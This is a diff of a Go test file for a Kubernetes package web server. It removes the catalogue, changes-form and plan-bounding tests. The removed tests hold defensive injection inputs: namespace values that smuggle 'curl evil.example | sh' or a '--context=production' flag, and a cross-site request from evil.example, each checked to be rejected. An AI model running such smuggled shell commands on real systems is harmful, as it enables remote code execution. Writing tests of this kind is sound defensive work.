@@ -44,18 +44,12 @@ const most = 16 << 20
 // serve serves a page of a cluster, and signs a browser in.
 func serve(t *testing.T, cl *cluster.Cluster) *browser {
 	t.Helper()
-	return serveWith(t, cl, false)
-}
-
-// serveWith is serve with or without --allow-changes.
-func serveWith(t *testing.T, cl *cluster.Cluster, changes bool) *browser {
-	t.Helper()
 	listener, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
 	if err != nil {
 		t.Fatal(err)
 	}
 	host := listener.Addr().String()
-	s := newServer(t.Context(), cl, host, changes, func() { t.Error("too many wrong codes") })
+	s := newServer(t.Context(), cl, host, func() { t.Error("too many wrong codes") })
 	var served sync.WaitGroup
 	served.Go(func() {
 		if err := s.serve(listener); err != nil {
@@ -386,8 +380,7 @@ func TestPackagePage(t *testing.T) {
 	if status != http.StatusOK || !strings.Contains(diff, "spec.template.spec.containers[name=web].image") || !strings.Contains(diff, "(hidden)") {
 		t.Errorf("%d, diff: %s", status, diff)
 	}
-	_, drawing := b.get("graph?package=packages/shop/web")
-	for name, page := range map[string]string{"list": list, "package": text, "diff": diff, "graph": drawing} {
+	for name, page := range map[string]string{"list": list, "package": text, "diff": diff} {
 		for _, secret := range []string{"planted-value", clustertest.SecretValue, "b3RoZXItc2VjcmV0"} {
 			if strings.Contains(page, secret) {
 				t.Errorf("%s has %q", name, secret)
@@ -396,8 +389,7 @@ func TestPackagePage(t *testing.T) {
 	}
 	for path, want := range map[string]int{
 		"packages/shop/none": http.StatusNotFound, "clusterpackages/web": http.StatusNotFound, "packages/shop/web/diff": http.StatusNotFound,
-		"packages/shop/web/diff?from=1&to=9": http.StatusNotFound, "packages/shop/web/plan?version=--help": http.StatusNotFound, "packages/shop/none/plan?revision=1": http.StatusNotFound,
-		"packages/shop/web/plan?revision=9": http.StatusNotFound, "packages/shop/web/plan?version=1.0.0": http.StatusBadGateway, "graph?package=none": http.StatusOK,
+		"packages/shop/web/diff?from=1&to=9": http.StatusNotFound,
 	} {
 		if got, _ := b.get(path); got != want {
 			t.Errorf("%s: %d", path, got)
@@ -428,164 +420,6 @@ func TestPackagePage(t *testing.T) {
 	}
 	if got, _ := b.get("packages/shop/web"); got != http.StatusNotFound {
 		t.Errorf("after the deletion: %d", got)
-	}
-}
-
-// The catalogue has the repositories, also as they change, and packages that are not at
-// their newest version.
-func TestCataloguePage(t *testing.T) {
-	t.Parallel()
-	repository := &corev1alpha1.PackageRepository{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "stable", Generation: 1}}
-	repository.Spec.Source.HTTP = &corev1alpha1.RepositoryHTTPSource{URL: "https://user:planted-value@example.com/repository?token=planted-value"}
-	cl := clustertest.FakeCluster(t, clustertest.OfferedAs("shop", "1.0.0", "1.1.0", "2.0.0"), clustertest.Following("^1", "1.0.0"), repository)
-	b := serve(t, cl)
-	status, text := b.get("catalogue")
-	for _, want := range []string{"it has not moved yet", "2.0.0", "kubectl package plan package/web -n shop --version 2.0.0", "https://example.com/repository"} {
-		if status != http.StatusOK || !strings.Contains(text, want) {
-			t.Errorf("%d, it has no %q: %s", status, want, text)
-		}
-	}
-	if strings.Contains(text, "planted-value") {
-		t.Error("a credential is shown")
-	}
-	for path, want := range map[string]string{
-		"catalogue?view=installed":                                                             `catalogue/package?name=shop.example.com&amp;namespace=shop">shop.example.com</a>`,
-		"catalogue/package?name=shop.example.com&namespace=shop":                               "kubectl package install shop.example.com/2.0.0 -n shop",
-		"catalogue/package?name=shop.example.com&namespace=shop&q=2":                           "newest is 2.0.0",
-		"catalogue/package?name=shop.example.com&namespace=shop&page=9":                        "<code>example.com/v1 Shop</code>",
-		"catalogue/package?name=shop.example.com":                                              "no repository offers shop.example.com",
-		"catalogue/package":                                                                    "names no package",
-		"catalogue/package?name=shop.example.com&namespace=shop%3Bcurl%20evil.example%7Csh":    "a namespace that none can be called",
-		"catalogue/package?name=shop.example.com&namespace=shop%20--context%3Dproduction":      "a namespace that none can be called",
-		"catalogue/package?name=shop.example.com&namespace=shop%0Acurl%20evil.example%20%7Csh": "a namespace that none can be called",
-	} {
-		if _, text := b.get(path); !strings.Contains(text, want) {
-			t.Errorf("%s has no %q: %s", path, want, text)
-		}
-	}
-	_, fragments := b.stream(t.Context(), "catalogue/stream")
-	await(t, fragments, "repositories", "pending")
-	repository.Status.Packages, repository.Status.Conditions = 7, []metav1.Condition{clustertest.Condition("Ready", "True", "Fetched", "")}
-	repository.Status.Conditions[0].ObservedGeneration = 1
-	if err := cl.Update(t.Context(), repository); err != nil {
-		t.Fatal(err)
-	}
-	await(t, fragments, "repositories", `data-state="ready"`)
-}
-
-// With --allow-changes a form pauses a package, lets it go on, and retries it; without it there is none, and no request does.
-func TestChanges(t *testing.T) {
-	t.Parallel()
-	for _, allowed := range []bool{false, true} {
-		cl := clustertest.FakeCluster(t, webPackage())
-		b := serveWith(t, cl, allowed)
-		post := func(action string, header ...string) int {
-			t.Helper()
-			r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, b.base+"packages/shop/web/"+action, nil)
-			if err != nil {
-				t.Fatal(err)
-			}
-			for i := 0; i+1 < len(header); i += 2 {
-				r.Header.Set(header[i], header[i+1])
-			}
-			response, err := b.Do(r)
-			if err != nil {
-				t.Fatal(err)
-			}
-			_ = response.Body.Close()
-			return response.StatusCode
-		}
-		now := func() *corev1alpha1.Package {
-			t.Helper()
-			pkg := &corev1alpha1.Package{}
-			if err := cl.Get(t.Context(), client.ObjectKey{Namespace: "shop", Name: "web"}, pkg); err != nil {
-				t.Fatal(err)
-			}
-			return pkg
-		}
-		_, text := b.get("packages/shop/web")
-		if strings.Contains(text, `method="post"`) != allowed {
-			t.Errorf("allowed %v: %s", allowed, text)
-		}
-		if got := post("pause", "Sec-Fetch-Site", "cross-site", "Origin", "https://evil.example"); got != http.StatusForbidden || now().Spec.Paused {
-			t.Errorf("another site pauses: %d", got)
-		}
-		if !allowed {
-			if got := post("pause"); got == http.StatusOK || now().Spec.Paused {
-				t.Errorf("it is paused without the flag: %d", got)
-			}
-			continue
-		}
-		if got := post("pause", "Sec-Fetch-Site", "same-origin"); got != http.StatusOK || !now().Spec.Paused {
-			t.Errorf("pause: %d", got)
-		}
-		if got := post("unpause"); got != http.StatusOK || now().Spec.Paused || now().Annotations[corev1alpha1.PauseMessageAnnotation] != "" {
-			t.Errorf("unpause: %d", got)
-		}
-		if got := post("retry"); got != http.StatusOK || len(now().Annotations) == 0 {
-			t.Errorf("retry: %d, %v", got, now().Annotations)
-		}
-	}
-}
-
-// gated is a cluster of which single objects are read when a function lets them be.
-type gated struct {
-	clustertest.Listing
-	gate func(context.Context) error
-}
-
-// Get implements client.Reader.
-func (g *gated) Get(ctx context.Context, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
-	if err := g.gate(ctx); err != nil {
-		return err
-	}
-	return g.WithWatch.Get(ctx, key, obj, opts...)
-}
-
-// So many plans are made at a time; others wait for as long as an answer may take.
-func TestPlansAreBounded(t *testing.T) {
-	t.Parallel()
-	reads, proceed := make(chan struct{}, 10), make(chan struct{})
-	cl := clustertest.FakeCluster(t, webPackage())
-	cl.WithWatch = &gated{Listing: clustertest.Listing{WithWatch: cl.WithWatch}, gate: func(ctx context.Context) error {
-		reads <- struct{}{}
-		select {
-		case <-proceed:
-			return nil
-		case <-ctx.Done():
-			return ctx.Err()
-		}
-	}}
-	s := newServer(t.Context(), cl, "127.0.0.1:1", false, func() {})
-	s.board.Synced(t.Context())
-	plan := func(ctx context.Context) error {
-		r, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://127.0.0.1:1/?revision=1", nil)
-		if err != nil {
-			return err
-		}
-		r.SetPathValue("namespace", "shop")
-		r.SetPathValue("name", "web")
-		_, err = s.plan(r)
-		return err
-	}
-	done := make(chan error, pagePlans)
-	for range pagePlans {
-		go func() { done <- plan(t.Context()) }()
-	}
-	for range pagePlans {
-		<-reads
-	}
-	ended, cancel := context.WithCancel(t.Context())
-	cancel()
-	if err := plan(ended); err == nil || !strings.Contains(err.Error(), "plans are being made already") || len(reads) > 0 {
-		t.Errorf("one more: %v, %d reads", err, len(reads))
-	}
-	close(proceed)
-	for range pagePlans {
-		<-done
-	}
-	if err := plan(t.Context()); err == nil || !strings.Contains(err.Error(), "no revision") {
-		t.Errorf("after the others: %v", err)
 	}
 }
 
